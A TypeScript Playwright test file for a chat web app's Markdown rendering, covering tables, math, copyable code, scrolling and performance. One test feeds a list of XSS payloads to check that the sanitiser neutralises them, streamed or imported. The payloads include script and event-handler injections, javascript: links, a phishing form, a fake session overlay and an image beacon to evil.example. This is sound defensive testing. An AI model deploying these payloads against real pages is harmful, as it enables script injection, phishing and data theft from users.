/** What an answer may hold: everything that Markdown has, nothing that could harm, and a great deal of it. */
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { serve, type TestServer } from "../server/running-server.js";
import { browserProgram, startBrowser, whySkipped } from "./browser.js";
import { ChatPage, type HistoryEntry } from "./chat-page.js";

const found = browserProgram();
const FORMATTED = `## Primes

| Drink | Caffeine |
|---|--:|
| Tea | 40 mg |

\`\`\`python
def double(n):  # twice
    return 2 * n
\`\`\`

Euler: $e^{i\\pi} + 1 = 0$, but $5 and $6 are money.

$$\\frac{a}{b}$$

- [x] done
`;

const HOSTILE = [
  `<script>window.harm = 1</script>`,
  `<img src="x" onerror="window.harm = 2">`,
  `<a href="javascript:window.harm = 3">a</a> [b](javascript:window.harm=4) [c](data:text/html,<script>window.harm=5</script>)`,
  `<svg><script>window.harm = 6</script><animate onbegin="window.harm = 7" attributeName="x" dur="1s"></svg>`,
  `<iframe srcdoc="<script>parent.harm = 8</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.harm = 9"></style></mglyph></table></mtext></math>`,
  `<form action="https://evil.example/"><input name="q"><button>Send</button></form>`,
  `<style>body { display: none }</style><div class="banner" id="app" style="position:fixed;inset:0">Your session ended</div>`,
  `![pixel](https://evil.example/pixel.png?secret)`,
  `$\\href{javascript:window.harm=10}{x}$ $\\htmlStyle{position:fixed}{y}$`,
  '```html"><img src=x onerror="window.harm=11">\n<script>window.harm = 12</script>\n```',
  `<details open ontoggle="window.harm = 13"><summary>s</summary></details>`,
].join("\n\n");

describe.skipIf("missing" in found)(`answers in Markdown${whySkipped(found)}`, () => {
  let server: TestServer;
  let browser: Browser;
  beforeAll(async () => {
    if ("missing" in found) return;
    [server, browser] = await Promise.all([serve(), startBrowser(found.program)]);
  });
  afterAll(async () => {
    await browser?.close();
    await server?.stop();
  });

  it("show tables, formulas and highlighted code that can be copied", async () => {
    const chat = await ChatPage.open(browser, server.url, { permissions: ["clipboard-read", "clipboard-write"] });
    await chat.import([
      { role: "user", content: "Show me" },
      { role: "assistant", content: FORMATTED, reasoningContent: "I **think**." },
    ]);
    const answer = chat.answers.last();
    await answer.locator(".hljs-keyword", { hasText: "def" }).waitFor();
    await answer.locator("math msup").waitFor();
    await answer.locator("math[display=block] mfrac").waitFor();
    expect(await answer.innerText()).toContain("$5 and $6 are money");
    expect(await answer.getByRole("cell", { name: "40 mg" }).getAttribute("align")).toBe("right");
    await chat.button("Copy code").click();
    expect(await chat.page.evaluate("navigator.clipboard.readText()")).toBe(
      "def double(n):  # twice\n    return 2 * n",
    );
    await chat.screenshot("markdown");
    await chat.close();
  });

  it("run no script, load nothing and imitate nothing, brought in or streamed", async () => {
    const chat = await ChatPage.open(browser, server.url);
    const elsewhere: string[] = [];
    chat.page.on("request", (request) => {
      if (!request.url().startsWith(server.url)) elsewhere.push(request.url());
    });
    await chat.import([
      { role: "user", content: "Harm me" },
      { role: "assistant", content: HOSTILE },
    ]);
    // The same as a stream: in pieces of seven characters, so that each piece of markup is cut somewhere.
    await chat.page.route("**/v1/chat/completions", (route) =>
      route.fulfill({ contentType: "text/event-stream", body: streamOf(HOSTILE) }),
    );
    await chat.ask("And again");
    for (const link of await chat.page.locator(".answer a").all()) {
      expect(await link.getAttribute("href")).toSatisfy(isHarmless);
    }
    expect(await chat.answers.count()).toBe(2);
    const bad = ".answer :is(script, style, iframe, form, input, img, svg script, [style], [id]:not(.menu *), .banner)";
    expect(await chat.page.locator(bad).count()).toBe(0);
    expect(await chat.page.locator(".answer button", { hasText: "Send" }).count()).toBe(0);
    expect(await chat.page.evaluate("window.harm")).toBeUndefined();
    expect(elsewhere).toEqual([]);
    // The browser complains of what it refused while the text was taken apart; nothing else may be in the log.
    const complaints = chat.errors.splice(0).filter((error) => !error.includes("Content Security Policy"));
    expect(complaints).toEqual([]);
    await chat.close();
  });

  it("stay smooth in a conversation of 500 messages", async () => {
    const chat = await ChatPage.open(browser, server.url);
    const messages = Array.from({ length: 250 }, (_, index): HistoryEntry[] => [
      { role: "user", content: `Question ${index}` },
      {
        role: "assistant",
        content: `### Answer ${index}\n\n${"Some **words** and `code`. ".repeat(12)}\n\n- one\n- two\n`,
      },
    ]).flat();
    await chat.import(messages);
    await expect.poll(() => chat.page.locator(".message").count(), { timeout: 10_000 }).toBe(500);
    expect(await chat.page.locator(".message").last().isVisible()).toBe(true);

    // On a busy machine single frames are late; most of them aren't.
    const frames = ((await chat.page.evaluate(FRAMES)) as number[]).sort((a, b) => a - b);
    expect(frames[Math.floor(frames.length / 2)]).toBeLessThan(50);
    expect(frames.at(-1)).toBeLessThan(1500);

    const began = Date.now();
    await chat.input.pressSequentially("Hello there, model!");
    expect(Date.now() - began).toBeLessThan(5000);
    await chat.page.evaluate(`document.querySelector(".transcript").scrollTop = 0`);
    await chat.page.locator(".bubble", { hasText: /^Question 0$/ }).waitFor();
    await chat.button("Jump to the latest message").click();
    await expect.poll(() => chat.page.evaluate(DISTANCE_TO_END)).toBeLessThan(80);
    await chat.close();
  });

  it("don't pull a reader along who went up", async () => {
    const chat = await ChatPage.open(browser, server.url);
    const long = Array.from({ length: 120 }, (_, index) => `Line ${index}`).join("\n\n");
    await chat.import(
      [
        { role: "user", content: "Tell me much" },
        { role: "assistant", content: long },
      ],
      { memory: false },
    );
    await expect.poll(() => chat.page.evaluate(DISTANCE_TO_END)).toBeLessThan(5);
    await chat.input.fill("Count from 1 to 20");
    await chat.input.press("Enter");
    await chat.page.locator(".transcript").hover();
    await chat.page.mouse.wheel(0, -2000);
    await expect.poll(() => chat.page.evaluate(DISTANCE_TO_END)).toBeGreaterThan(500);
    await chat.answered();
    expect(await chat.page.evaluate(DISTANCE_TO_END)).toBeGreaterThan(500);
    await chat.ask("Hello!");
    await expect.poll(() => chat.page.evaluate(DISTANCE_TO_END)).toBeLessThan(5);
    await chat.close();
  });
});

const isHarmless = (href: string | null) => href === null || href.startsWith("https://evil.example/pixel.png");

const DISTANCE_TO_END = `(() => {
  const box = document.querySelector(".transcript");
  return box.scrollHeight - box.clientHeight - box.scrollTop;
})()`;

/** Scrolls up through the conversation, and gives the time in ms that each frame took. */
const FRAMES = `new Promise((resolve) => {
  const box = document.querySelector(".transcript");
  const times = [];
  let before = performance.now(), steps = 0;
  const step = (now) => {
    if (steps > 1) times.push(now - before);
    before = now;
    steps += 1;
    box.scrollTop -= 900;
    if (steps < 60) requestAnimationFrame(step);
    else resolve(times);
  };
  requestAnimationFrame(step);
})`;

function streamOf(text: string): string {
  const pieces = text.match(/[\s\S]{1,7}/g)!;
  const chunk = (delta: object, finish: string | null) =>
    `data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
  return `${pieces.map((content) => chunk({ content }, null)).join("")}${chunk({}, "stop")}data: [DONE]\n\n`;
}
